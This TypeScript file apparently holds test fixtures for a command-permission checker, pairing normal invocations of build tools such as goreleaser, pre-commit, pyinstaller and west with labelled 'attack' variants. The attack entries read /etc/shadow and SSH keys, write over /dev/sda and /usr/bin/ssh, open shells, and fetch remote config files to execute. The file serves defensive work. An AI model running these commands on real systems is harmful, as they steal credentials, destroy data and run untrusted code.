import type { ExampleTable } from './example.ts'

export const buildTools2: ExampleTable = {
  fpm: {
    use: 'fpm -s dir -t deb -n app -v 1.0 -p app.deb src → read-tree src; write app.deb',
    attack:
      'fpm -s dir -t tar -n keys -p keys.tar /root/.ssh → read-tree /root/.ssh; write keys.tar',
  },
  'git-cliff': {
    use: 'git-cliff -c cliff.toml -o CHANGELOG.md → read cliff.toml; write CHANGELOG.md',
    attack: [
      'git-cliff -c /etc/shadow → read /etc/shadow',
      'git-cliff -o /etc/cron.d/job → write /etc/cron.d/job',
    ],
  },
  goreleaser: {
    use: 'goreleaser -f .goreleaser.yaml → read .goreleaser.yaml',
    attack: 'goreleaser --release-notes /etc/shadow release → read /etc/shadow',
  },
  'goreleaser build': {
    use: 'goreleaser build -f ci.yaml -o dist/app → read ci.yaml; write dist/app',
    attack: [
      'curl -so ci.yaml https://example.org/x && goreleaser build -f ci.yaml → execute ‹https://example.org/x›',
      'goreleaser build -o /usr/bin/ssh → write /usr/bin/ssh',
    ],
  },
  'goreleaser check': {
    use: 'goreleaser check -f .goreleaser.yaml → read .goreleaser.yaml',
    attack: 'goreleaser check -f /etc/shadow → read /etc/shadow',
  },
  'goreleaser release': {
    use: 'goreleaser release -f .goreleaser.yaml --release-notes=CHANGES.md → read .goreleaser.yaml; read CHANGES.md',
    attack: 'goreleaser release --release-notes=/etc/shadow → read /etc/shadow',
  },
  'ko build': {
    use: 'ko build ./cmd/app --push=false --tarball=app.tar → write app.tar',
    attack: [
      'ko build ./cmd/app --push=false --tarball=/dev/sda → write /dev/sda',
      'ko build ./cmd/app --image-refs=/etc/passwd → write /etc/passwd',
    ],
  },
  'lint-staged': {
    use: 'lint-staged -c lint-staged.config.js → read lint-staged.config.js',
    attack: [
      'curl -so l.js https://example.org/x && lint-staged -c l.js → execute ‹https://example.org/x›',
      'lint-staged --shell=/tmp/x → run /tmp/x',
    ],
  },
  'nfpm package': {
    use: 'nfpm package -f nfpm.yaml -p deb -t app.deb → read nfpm.yaml; write app.deb',
    attack: [
      'nfpm package -f /etc/shadow -p deb → read /etc/shadow',
      'nfpm package -f nfpm.yaml -p deb -t /dev/sda → write /dev/sda; read nfpm.yaml',
    ],
  },
  pants: {
    use: 'pants --pants-config-files=pants.ci.toml test :: → read pants.ci.toml',
    attack:
      'curl -so p.toml https://example.org/x && pants --pants-config-files=p.toml test :: → execute ‹https://example.org/x›',
  },
  pex: {
    use: 'pex -r requirements.txt -o app.pex → read requirements.txt; write app.pex',
    attack: [
      'pex -r /etc/shadow → read /etc/shadow',
      'pex requests -o /usr/bin/ssh → write /usr/bin/ssh',
    ],
  },
  'platformio run': {
    use: 'platformio run -c platformio.ini -e esp32 → read platformio.ini',
    attack: [
      'platformio run -c /etc/shadow → read /etc/shadow',
      'curl -so p.ini https://example.org/x && platformio run -c p.ini → execute ‹https://example.org/x›',
    ],
  },
  'platformio test': {
    use: 'platformio test -c platformio.ini -e native → read platformio.ini',
    attack: [
      'platformio test -c /etc/shadow → read /etc/shadow',
      'curl -so p.ini https://example.org/x && platformio test -c p.ini → execute ‹https://example.org/x›',
    ],
  },
  plop: {
    use: 'plop --plopfile=plopfile.js component → read plopfile.js',
    attack:
      'curl -so p.js https://example.org/x && plop --plopfile=p.js → execute ‹https://example.org/x›',
  },
  'plz run': {
    use: "plz run --cmd='cat notes.txt' //app:server → read notes.txt",
    attack: [
      "plz run --cmd='cat /etc/shadow' //app:server → read /etc/shadow",
      'plz run --cmd=/bin/sh //app:server → shell sh',
    ],
  },
  'pre-commit': {
    use: 'pre-commit run -c .pre-commit-ci.yaml --all-files → read .pre-commit-ci.yaml',
    attack:
      'curl -so p.yaml https://example.org/x && pre-commit run -c p.yaml → execute ‹https://example.org/x›',
  },
  pyinstaller: {
    use: 'pyinstaller -n app main.py → read main.py',
    attack: [
      'curl -so app.spec https://example.org/x && pyinstaller app.spec → execute ‹https://example.org/x›',
      'pyinstaller -p /tmp main.py → load /tmp; read main.py',
    ],
  },
  shiv: {
    use: 'shiv -c app -o app.pyz . → write app.pyz',
    attack: 'shiv -c app -o /usr/bin/ssh . → write /usr/bin/ssh',
  },
  'west flash': {
    use: 'west flash --hex-file=zephyr.hex → read zephyr.hex',
    attack: 'west flash --openocd=/tmp/x → run /tmp/x',
  },
  'west forall': {
    use: "west forall -c 'cat west.yml' → read west.yml",
    attack: [
      "west forall -c 'cat /etc/shadow' → read /etc/shadow",
      'west forall -c /bin/sh → shell sh',
    ],
  },
}
